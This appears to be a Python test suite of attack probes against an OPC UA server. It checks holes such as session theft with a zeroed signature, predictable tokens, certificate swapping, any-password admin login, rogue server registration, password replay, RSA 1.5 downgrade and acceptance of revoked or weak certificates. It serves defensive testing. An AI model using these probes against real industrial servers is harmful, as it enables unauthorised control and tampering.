"""Attacks on the holes through which one gets in who may not, or is kept out who may.

Each is told a target and answers whether the hole is open there. None is given anything that an attacker could not
have. Every one is bounded in number, size and time.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Callable
from typing import Any

from asyncua import ua
from asyncua.crypto.uacrypto import encrypt_rsa15
from asyncua.ua.ua_binary import struct_to_binary
from hole_server import PASSWORD
from hole_target import LATE_PERSON, OTHER, REVOKED, SERVER, STRANGER, TRUSTED, WEAK, Target
from holes import REFUSED, accepted, enters, finishes, hole
from ua_attacker import PATIENCE_S, RawClient
from ua_requests import (
    VALUE,
    activate_request,
    create_request,
    node,
    read_request,
    subscribe_request,
    write_request,
)


def altered(client: Any, call: str, change: Callable[[Any], None]) -> None:
    """Let a client change the parameters of one of its calls on the way."""
    send = getattr(client.uaclient, call)

    async def changed(params: Any) -> Any:
        change(params)
        return await send(params)

    setattr(client.uaclient, call, changed)


@hole("session theft")
async def stolen_session(target: Target) -> bool:
    """Activate a victim's session with a signature of zeros, then write with his rights."""
    async with await target.client() as victim:
        thief: Any = await target.client(OTHER)
        await thief.connect_socket()
        try:
            await thief.send_hello()
            await thief.open_secure_channel()
            thief.uaclient.session.restore_authentication_token(victim.uaclient.session.authentication_token)
            request = activate_request()
            request.Parameters.ClientSignature.Signature = bytes(256)
            with contextlib.suppress(*REFUSED):
                await thief.uaclient.activate_session(request.Parameters)
            await thief.get_node(VALUE).write_value(ua.DataValue(ua.Variant(666.0)))
        except REFUSED:
            return False
        finally:
            thief.disconnect_socket()
        return bool(await victim.get_node(VALUE).read_value() == 666.0)


@hole("session theft")
async def foreseen_token(target: Target) -> bool:
    """Tell from one's own token what the next client's will be; after a restart they begin anew."""
    mine, next_one = [(await (await RawClient.open(target.port)).create_session()).AuthenticationToken for _ in "12"]
    return isinstance(mine.Identifier, int) and next_one.Identifier == mine.Identifier + 1


@hole("unsecured channels")
async def unsecured_session(target: Target) -> bool:
    """Log in without security where only encrypted endpoints are configured, and write."""
    client = await RawClient.open(target.careful)
    created = await accepted(client, create_request())
    if created is None:
        return False
    client.auth = created.Parameters.AuthenticationToken
    request = activate_request()
    token = ua.UserNameIdentityToken()
    token.UserName, token.Password = "olga", PASSWORD.encode()
    request.Parameters.UserIdentityToken = token
    if await accepted(client, request) is None:
        return False
    written = await accepted(client, write_request(5.0))
    return written is not None and written.Results[0].is_good()


@hole("channel certificate")
async def unlisted_certificate(target: Target) -> bool:
    """Open a channel with a certificate that nobody trusts, and leave it out of CreateSession."""
    client = await target.client(STRANGER)

    def nothing(params: Any) -> None:
        params.ClientCertificate = None

    altered(client, "create_session", nothing)
    return await enters(client)


@hole("channel certificate")
async def borrowed_certificate(target: Target) -> bool:
    """Open a channel with one's own certificate, and show a trusted one in CreateSession."""
    client = await target.client(STRANGER)

    def another(params: Any) -> None:
        params.ClientCertificate = TRUSTED.der

    altered(client, "create_session", another)
    return await enters(client)


@hole("default user")
async def any_password_is_admins(target: Target) -> bool:
    """Be "admin" with any password, and create nodes."""
    client = await target.client(name="admin", careful=False)
    client.set_password("whatever comes to mind")
    try:
        async with client:
            await client.nodes.objects.add_variable(node("planted", 2), "Planted", 1.0)
    except REFUSED:
        return False
    return True


@hole("tokens and registration")
async def registered_server(target: Target) -> bool:
    """Plant a server in everybody's FindServers, without a session."""
    client = await RawClient.open(target.port)
    request = ua.RegisterServerRequest()
    request.Server.ServerUri = "urn:evil"
    request.Server.DiscoveryUrls = ["opc.tcp://127.0.0.1:1"]
    request.Server.ServerNames = [ua.LocalizedText("evil")]
    if await accepted(client, request) is None:
        return False
    return any(s.ApplicationUri == "urn:evil" for s in (await client.ask(ua.FindServersRequest())).Servers)


@hole("tokens and registration")
async def uncompared_token(target: Target) -> bool:
    """Read with another token than the session's."""
    client = await RawClient.login(target.port)
    client.auth = node(4711)
    return await accepted(client, read_request(VALUE)) is not None


@hole("tokens and registration")
async def foreign_subscription(target: Target) -> bool:
    """Delete another session's subscription."""
    owner, other = await RawClient.login(target.port), await RawClient.login(target.port)
    created = await owner.ask(subscribe_request())
    request = ua.DeleteSubscriptionsRequest()
    request.Parameters.SubscriptionIds = [created.Parameters.SubscriptionId]
    answer = await accepted(other, request)
    return answer is not None and answer.Results[0].is_good()


@hole("passwords")
async def replayed_password(target: Target) -> bool:
    """Enter with a recorded token of somebody else's login."""
    recorded = []
    honest = await target.client()
    altered(honest, "activate_session", lambda params: recorded.append(params.UserIdentityToken.Password))
    assert await enters(honest)
    thief = await target.client(OTHER, name="olga")

    def replay(params: Any) -> None:
        params.UserIdentityToken.Password = recorded[0]

    altered(thief, "activate_session", replay)
    return await enters(thief)


@hole("passwords")
async def weaker_wrapping(target: Target) -> bool:
    """Wrap the password with RSA 1.5, whatever the policy says."""
    client: Any = await target.client()
    wrap: Any = encrypt_rsa15

    def rsa15(params: Any) -> None:
        secret = ua.ua_binary.Primitives.Bytes.pack(PASSWORD.encode() + client._server_nonce)
        params.UserIdentityToken.Password = wrap(SERVER.certificate.public_key(), secret)
        params.UserIdentityToken.EncryptionAlgorithm = "http://www.w3.org/2001/04/xmlenc#rsa-1_5"

    altered(client, "activate_session", rsa15)
    return await enters(client)


@hole("passwords")
async def clear_password(target: Target) -> bool:
    """Send the password in clear text on an endpoint whose policy says otherwise."""
    client = await RawClient.open(target.port)
    await client.create_session()
    request = activate_request()
    token = ua.UserNameIdentityToken()
    token.PolicyId, token.UserName, token.Password = "username", "olga", PASSWORD.encode()
    endpoints = (await client.ask(ua.GetEndpointsRequest())).Endpoints
    for policy in (t for e in endpoints for t in e.UserIdentityTokens if t.TokenType == ua.UserTokenType.UserName):
        token.PolicyId = policy.PolicyId
    request.Parameters.UserIdentityToken = token
    return await accepted(client, request) is not None


@hole("passwords")
async def expired_user_certificate(target: Target) -> bool:
    """Be a user by a certificate that has expired."""
    return await enters(await target.client(person=LATE_PERSON))


@hole("guessing")
async def unlimited_guessing(target: Target) -> bool:
    """Guess as often as one likes, and be let in at once by the right password."""
    for number in range(4):
        client = await target.client(OTHER, name="guessed")
        client.set_password(f"guess number {number}")
        assert not await enters(client)
    return await enters(await target.client(OTHER, name="guessed"))


@hole("guessing")
async def hashing_on_the_loop(target: Target) -> bool:
    """Make the server look at passwords on its event loop, where nobody else is served meanwhile."""
    client = await target.client(name="otto")
    assert not await enters(client)
    await enters(await target.client())
    on_loop = await target.ask("hashing")
    assert on_loop is not None
    return bool(on_loop)


@hole("revocation and strength")
async def revoked_certificate(target: Target) -> bool:
    """Enter with a certificate that its authority has revoked, in a list named `root.crl`."""
    return await enters(await target.client(REVOKED))


@hole("revocation and strength")
async def weak_certificate(target: Target) -> bool:
    """Enter with a key of 1024 bits, which can be broken."""
    return await enters(await target.client(WEAK))


@hole("unoffered policy")
async def silence(target: Target) -> bool:
    """Ask for a policy that is not offered: an honest client must learn why it does not get in."""
    client = await RawClient.connect(target.port)
    await client.hello()
    header = ua.AsymmetricAlgorithmHeader()
    header.SecurityPolicyURI = ua.String("http://opcfoundation.org/UA/SecurityPolicy#Nonsense")
    client.send(client.chunk(b"OPN", bytes(132), security=struct_to_binary(header)))
    answer = asyncio.create_task(client.receive(PATIENCE_S * 2))
    finished = await finishes(target, answer, 50)
    told = finished and answer.exception() is None and answer.result()[0] == b"ERR"
    await client.close()
    return not told


@hole("certificate without security")
async def refused_for_a_certificate(target: Target) -> bool:
    """Refuse an honest client that shows its certificate on an endpoint without security, where none counts."""
    for port in (target.careful, target.port):
        if await accepted(await RawClient.open(port), create_request()) is not None:
            shown = create_request(ClientCertificate=STRANGER.der)
            return await accepted(await RawClient.open(port), shown) is None
    raise AssertionError("no sessions without security at all")
